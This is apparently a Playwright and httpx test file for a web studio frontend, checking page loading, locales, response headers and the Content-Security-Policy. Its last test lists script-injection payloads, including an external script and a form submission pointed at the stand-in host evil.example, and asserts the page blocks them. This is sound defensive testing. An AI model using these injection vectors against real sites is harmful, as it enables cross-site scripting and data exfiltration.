"""Nothing that the page can come to need is missing, and nothing in it is against its own policy.

The visitor fails the test for either.
"""

import re

import httpx
import pytest
from playwright.async_api import Browser, Page, expect

from frontend.studio.site.headers import OPEN, header_rules
from tests.system.visitor import a_visitor


async def _drawn(page: Page) -> None:
    """The page has begun, and all that it begins with has come."""
    await expect(page.locator("#text_to_image-prompt textarea")).to_be_visible()
    pictures = page.locator("#gallery .gallery-wall")
    await expect(pictures).to_have_attribute("aria-busy", "false")


async def test_every_tab_opens(page: Page, studio_url: str) -> None:
    await page.goto(studio_url)
    await _drawn(page)
    tabs = page.locator("#tasks").get_by_role("tab")
    for tab in await tabs.all():
        await tab.click()
        panel = page.locator("#tasks").get_by_role("tabpanel").filter(visible=True)
        await expect(panel.locator("button.go")).to_be_visible()
        await page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("locale", ["de-DE", "es-MX", "fr", "ja-JP", "pt-BR", "xx"])
async def test_the_page_opens_in_any_language(
    browser: Browser, studio_url: str, locale: str
) -> None:
    async with a_visitor(browser, locale=locale) as page:
        await page.goto(studio_url)
        await _drawn(page)


@pytest.mark.parametrize("asked", ["view=settings", "view=api", "deep_link=x", "__theme=dark"])
async def test_what_gradio_would_read_from_the_address_changes_nothing(
    page: Page, studio_url: str, asked: str
) -> None:
    await page.goto(f"{studio_url}/?{asked}")
    await _drawn(page)


@pytest.mark.every_way
async def test_each_file_goes_out_with_its_headers(studio_url: str) -> None:
    async with httpx.AsyncClient(base_url=studio_url, timeout=60) as anybody:
        page = await anybody.get("/", headers={"Accept-Encoding": "br"})
        named = re.findall(r'(?:src|href)="(/(?:assets|ui)/[^"]+)"', page.text)
        paths = (named[0], named[-1], "/icons/icon.svg", "/notices.js")
        files = {path: await anybody.get(path) for path in paths}
    # Which origins there are differs from one machine to another; tests/unit/studio has the rest.
    policy = page.headers["Content-Security-Policy"]
    assert "unsafe-inline" not in policy
    assert "{" not in policy
    assert page.headers["Content-Encoding"] == "br"
    for path, answer in {"/index.html": page, **files}.items():
        expected = next(rule for rule in header_rules(OPEN) if rule.covers(path)).headers
        varying = {"Content-Security-Policy"}
        sent = {name: answer.headers[name] for name in expected.keys() - varying}
        assert sent == {n: v for n, v in expected.items() if n not in varying}, path


WAYS_IN = {
    "a text made into a function": "new Function('window.harmed = true')()",
    "a text that begins like one of ours": "new Function('return ``; }; window.harmed = 1; {')()",
    "a text that is evaluated": "(0, eval)('window.harmed = true')",
    "a timer with a text": "setTimeout('window.harmed = true', 0)",
    "a script that is written into the page": "document.body.append(Object.assign("
    "document.createElement('script'), { text: 'window.harmed = true' }))",
    "a script from elsewhere": "document.body.append(Object.assign("
    "document.createElement('script'), { src: 'https://evil.example/x.js' }))",
    "a handler in HTML": "document.body.insertAdjacentHTML('beforeend', "
    "'<img src=x: onerror=\"window.harmed = true\">')",
    "another service worker": "navigator.serviceWorker.register("
    "'/ui/painter/png.js', { type: 'module' }).then(() => { window.harmed = true; })",
    "a form that leaves": "document.body.insertAdjacentHTML('beforeend', "
    "'<form action=https://evil.example method=post></form>'), document.forms[0].submit()",
}


async def test_what_got_into_the_page_can_do_nothing(browser: Browser, studio_url: str) -> None:
    context = await browser.new_context()
    page = await context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await page.goto(studio_url)
    await _drawn(page)
    harmful = []
    for way, code in WAYS_IN.items():
        # Later, because what a debugger runs itself is not held to the page's policy.
        await page.evaluate(f"() => setTimeout(() => {{ {code}; }})")
        await page.wait_for_timeout(200)
        if await page.evaluate("window.harmed") or any("evil" in url for url in asked):
            harmful.append(way)
        asked.clear()
        await page.evaluate("() => { delete window.harmed; }")
    assert harmful == []
    await context.close()
